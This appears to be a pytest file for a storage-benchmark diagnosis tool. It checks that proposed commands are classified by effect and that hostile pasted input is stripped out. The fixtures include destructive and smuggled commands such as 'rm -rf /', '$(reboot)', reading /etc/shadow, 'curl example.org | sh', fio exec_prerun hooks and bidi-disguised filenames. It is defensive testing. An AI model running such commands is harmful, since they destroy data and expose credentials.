# SPDX-License-Identifier: Apache-2.0
"""Commands that a diagnosis proposes harm nobody's data, whatever was pasted."""

from __future__ import annotations

from pathlib import Path

import pytest

from benchlab.diagnosis.answers import diagnose
from benchlab.diagnosis.evidence import Result
from benchlab.diagnosis.model import Diagnosis, NextStep, Verdict
from benchlab.diagnosis.pasted import read_evidence
from benchlab.diagnosis.steps import Effect, OwnPaths, effect_of, without_unnamed_risks
from benchlab.diagnosis.wording import edit_command
from tests.diagnosis.test_cases import CASES

OWN = OwnPaths(frozenset({"/dev/sdb", "/vm/disk.img"}), frozenset({"/dev/sdc"}))
COMMANDS = {
    Effect.LOOK: [
        "lsblk -d -o NAME,ROTA; cat /sys/block/sda/queue/write_cache",
        "sudo smartctl -a /dev/sdb | grep Media",
        "hdparm -W /dev/sdb",
        "zpool iostat -v 5",
        "ioping -c 5 /dev/sdb",
        "pg_test_fsync -f /srv/t",
    ],
    Effect.MEASURE: [
        "fio --name=x --filename=/dev/sdb --rw=randread",
        "fio --name=x --filename=/dev/sdc --rw=randwrite",
        "fio --name=x --directory=/srv --rw=write",
        "dd if=/dev/sdb of=/dev/null bs=1M",
        "sysbench fileio --file-num=1 run",
    ],
    Effect.CHANGE: [
        "fio --name=x --filename=/dev/sdb --rw=randwrite",
        "fio --name=x --filename=/dev/sdc:/dev/sdd --readwrite write",
        "fio --name=x --filename=/vm/disk.img --rw=write",
        "fio job.fio",
        "dd if=/dev/zero of=/dev/sdd",
        "mdadm /dev/md0 --fail /dev/sdf",
        "hdparm -W1 /dev/sdb",
        "echo idle > /sys/block/md0/md/sync_action",
        "zfs set sync=disabled tank",
        "lsblk; rm -rf /",
        "lsblk $(reboot)",
        "cat /sys/block/sda/size /etc/shadow",
        "unknown --help",
        "fio 'unbalanced",
        "ioping -WWW /dev/sdb",
        "pg_test_fsync -f /dev/sdb",
        "sort -o /dev/sdb x",
        "dmesg -C",
        "journalctl --vacuum-size=1",
        "smartctl -a -s off /dev/sdb",
        "zpool events -c",
        "fio --name=x --filename=/dev/sdb --rw=read --output=/etc/passwd",
        "fio --name=x --filename=/dev/sdb --rw=read --exec_prerun=reboot",
        "fio --name=x --filename=/dev/sdb --rw=read --write_lat_log=/etc/x",
    ],
}


@pytest.mark.parametrize(
    ("effect", "command"), [(effect, c) for effect, some in COMMANDS.items() for c in some]
)
def test_effect_of_a_command(effect: Effect, command: str) -> None:
    assert effect_of(command, OWN) == effect


def test_a_command_that_changes_something_is_shown_with_its_risk_only() -> None:
    fail = NextStep(
        "Fail it.", "mdadm /dev/md0 --fail /dev/sdf", risk="The array loses its redundancy."
    )
    bare = NextStep("Fail it.", "mdadm /dev/md0 --fail /dev/sdf")
    shown = without_unnamed_risks(Diagnosis(Verdict.LIMIT, "", next_steps=(fail, bare)), OWN)
    assert [step.command for step in shown.next_steps] == [fail.command, ""]


def test_a_device_that_the_text_wrote_to_is_named_before_it_is_written_again() -> None:
    step = NextStep("Again.", "fio --name=x --filename=/dev/sdc --rw=randwrite --iodepth=1")
    (shown,) = without_unnamed_risks(
        Diagnosis(Verdict.LIMIT, "", next_steps=(step,)), OWN
    ).next_steps
    assert shown.command == step.command and "overwrites /dev/sdc" in shown.risk


@pytest.mark.parametrize("folder", CASES, ids=lambda folder: folder.name)
def test_no_case_proposes_a_change_without_its_risk(folder: Path) -> None:
    """Each proposed command is known by its effect: one that was left out names no risk where it is written."""
    evidence, _ = read_evidence((folder / "input.txt").read_text(), "input.txt")
    answer = diagnose(evidence)
    steps = [step for d in (*answer.shown, *answer.folded) for step in d.next_steps]
    assert all("\n" not in step.command for step in steps)
    text = " ".join(step.command for step in steps if not step.risk)
    assert not any(word in text for word in ("--fail", " set ", "echo ", "zfs create", "refresh"))


def test_what_stands_behind_the_askers_command_is_not_proposed() -> None:
    result = Result("fio", "x", command="$ fio --name=x --rw=randread; rm -rf / > /etc/passwd")
    assert edit_command(result, direct=1) == "fio --name=x --rw=randread --direct=1"
    result = Result("fio", "x", command="fio --name=x --output=/etc/passwd --rw=read")
    assert edit_command(result, direct=1) == "fio --name=x --rw=read --direct=1"
    result = Result("dd", "x", command="dd if=/dev/sda of=/dev/null bs=1M && curl example.org | sh")
    assert edit_command(result, iflag="direct") == "dd if=/dev/sda of=/dev/null bs=1M iflag=direct"


@pytest.mark.parametrize(
    ("kind", "command"),
    [
        ("fio", "fio --name=x --exec_prerun='rm -rf /'"),
        ("fio", "fio --name=x --exec_postrun reboot"),
        ("fio", "fio --name=x --ioengine=external:/tmp/x.so"),
        ("fio", "fio --name=x -ioengine external:/tmp/x.so"),
        ("fio", "/tmp/x/fio --name=x"),
        ("fio", "fio --name=x --filename=/srv/\u202egnp.exe"),
        ("fio", "fio --name='x\ny'"),
        ("fio", "fio --name=x --size=<(reboot)"),
        ("sysbench", "sysbench /tmp/x.lua run"),
        ("sysbench", "sysbench --test=/tmp/x.lua run"),
        ("dd", "dd if=/dev/zero of=/srv/\u2066t"),
    ],
)
def test_a_stranger_s_command_that_runs_or_hides_something_is_not_proposed(
    kind: str, command: str
) -> None:
    assert edit_command(Result(kind, "x", command=command)) == ""


def test_an_installed_program_may_have_its_path() -> None:
    result = Result("fio", "x", command="/usr/local/bin/fio --name=x --rw=read")
    assert edit_command(result, direct=1) == "/usr/local/bin/fio --name=x --rw=read --direct=1"


def test_no_option_of_a_document_that_runs_a_program_is_proposed() -> None:
    options = {"rw": "read", "exec_prerun": "reboot"}
    assert edit_command(Result("fio", "x", options=options), direct=1) == ""
